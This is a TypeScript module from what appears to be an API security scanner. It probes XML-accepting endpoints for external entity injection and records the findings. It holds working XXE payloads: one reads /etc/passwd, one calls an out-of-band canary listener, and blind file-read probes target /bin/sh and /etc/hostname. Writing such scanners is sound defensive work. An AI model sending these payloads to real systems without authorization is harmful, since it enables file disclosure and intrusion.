import { Canary } from '../canary.ts'
import type { Operation } from '../operations.ts'
import type { Probing } from '../probing.ts'
import { isSuccess, type Reply } from '../reply.ts'
import { draftOf, requestOf, withValue } from '../requests.ts'
import { exchangesOf, trialOn } from '../trial-parts.ts'
import { documentOfSource } from '../xml-names.ts'

/** A document with a text in it. */
type Shape = (text: string) => string

/** The field of a form that takes XML, by what it took or is given as an example. */
function xmlFieldOf({ body }: Operation): string | undefined {
  return Object.entries(body?.schema.properties ?? {}).find(
    ([, { example }]) => typeof example === 'string' && example.startsWith('<'),
  )?.[0]
}

/** XML with entities, where XML is taken at all. */
export async function probeXmlEntities(probing: Probing): Promise<void> {
  const operations = probing.wireOperations
    .filter(
      (operation) =>
        operation.method === 'POST' &&
        operation.purpose === 'other' &&
        (/xml/i.test(operation.body?.contentType ?? '') ||
          /xml|import|soap|feed/i.test(operation.path) ||
          operation.baselineStatus === 415 ||
          xmlFieldOf(operation) !== undefined),
    )
    .sort((a, b) => Number(xmlFieldOf(b) !== undefined) - Number(xmlFieldOf(a) !== undefined))
    .slice(0, 4)
  if (operations.length === 0) return void probing.notTried('xmlEntities', 'XML', 'no-data', 'no operation takes XML')
  const canary = await Canary.open()
  try {
    for (const operation of operations) {
      const nonce = probing.values.nonce('entity', 14)
      const word = probing.values.nonce('entityword', 14)
      const field = xmlFieldOf(operation)
      const accepted = field === undefined ? null : await probing.takenBy(operation)
      const ids = operation.path.includes('{') ? await probing.idsFor(operation, probing.identities.userA) : {}
      const { path } = requestOf({ ...draftOf(operation, probing.values, ids, {}), body: null })
      const send = (body: string): Promise<Reply> =>
        field !== undefined && accepted !== null
          ? probing.sendDraft(accepted.session, withValue(accepted.draft, { in: 'body', name: field }, body), { mayFail: true })
          : probing.send(probing.identities.userA, {
              method: 'POST',
              path,
              headers: { 'content-type': 'application/xml' },
              body,
              mayFail: true,
            })
      let shape: Shape = (text) => `<root><name>${text}</name></root>`
      let plain = await send(`<?xml version="1.0"?>${shape(word)}`)
      const told = [400, 422].includes(plain.status) ? await documentOfSource(probing.treeRoot) : null
      const asTold = told === null ? null : await send(`<?xml version="1.0"?>${told(word)}`)
      if (told !== null && asTold !== null && isSuccess(asTold)) {
        shape = told
        plain = asTold
      }
      const withEntity = (entity: string): string => `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e ${entity}>]>${shape('&e;')}`
      const inside = await send(withEntity(`"${word}x${word}"`))
      const file = await send(withEntity('SYSTEM "file:///etc/passwd"'))
      const outside = await send(withEntity(`SYSTEM "${canary.baseUrl}/${nonce}"`))
      const hit = await canary.hitBy(nonce, 200)
      const isFile = /(?:^|["'>\s])root:[^:\n]*:0:0:/m.test(file.body)
      const blind = !isFile && hit === null && isSuccess(plain) ? await readsFiles(send, shape, plain, file) : null
      const again = isFile ? await send(withEntity('SYSTEM "file:///etc/passwd"')) : null
      probing.trial(
        'xmlEntities',
        trialOn(operation, {
          name: 'entities',
          saw:
            isFile || hit !== null || blind !== null
              ? 'effect'
              : [400, 415, 422, 404].includes(plain.status) || isSuccess(plain)
                ? 'no-effect'
                : 'unclear',
          effect: isFile
            ? 'an entity gives a file of the system'
            : hit !== null
              ? `an entity made the service ask our listener: ${hit}`
              : blind !== null
                ? blind.effect
                : `entities were not resolved (${inside.status})`,
          identity: probing.identities.userA?.name ?? 'anonymous',
          baseline: plain.exchange,
          control: plain.exchange,
          attempts: isFile || blind === null ? exchangesOf(isFile ? file : outside, again) : exchangesOf(file, ...blind.replies),
          reproduced: { count: isFile || hit !== null || blind !== null ? 2 : 0, of: 2 },
        }),
      )
    }
  } finally {
    await canary.close()
  }
}

/** A parser that opens a file stumbles over what is not there, or over what no document may hold. */
interface Stumble {
  readonly effect: string
  readonly replies: readonly Reply[]
}

/**
 * Whether the service opens the files that entities name, where no answer shows what is in them: a text is taken, and what stands in the
 * way of reading is refused twice, though not while nothing refers to it. Null where that tells nothing.
 */
async function readsFiles(send: (body: string) => Promise<Reply>, shape: Shape, plain: Reply, file: Reply): Promise<Stumble | null> {
  if (file.status !== plain.status) return null
  const entity = (path: string, use: string): Promise<Reply> =>
    send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file://${path}">]>${shape(use)}`)
  const missing = await entity('/nonexistent/assay', '&e;')
  const isMissingTaken = missing.status === plain.status
  const [first, second] = isMissingTaken ? (['/bin/sh', '/bin/ls'] as const) : (['/nonexistent/assay', '/nonexistent/assay-2'] as const)
  const refused = isMissingTaken ? await entity(first, '&e;') : missing
  if (refused.status === plain.status) return null
  const refusedAgain = await entity(second, '&e;')
  const unused = await entity(first, 'assay')
  const again = await entity('/etc/hostname', '&e;')
  if (refusedAgain.status !== refused.status || unused.status !== plain.status || again.status !== plain.status) return null
  const what = isMissingTaken ? 'of a program' : 'of a file that does not exist'
  return {
    effect: `an entity of a file of text is taken (${file.status}), one ${what} is refused (${refused.status}): files are read`,
    replies: [refused, refusedAgain, again],
  }
}
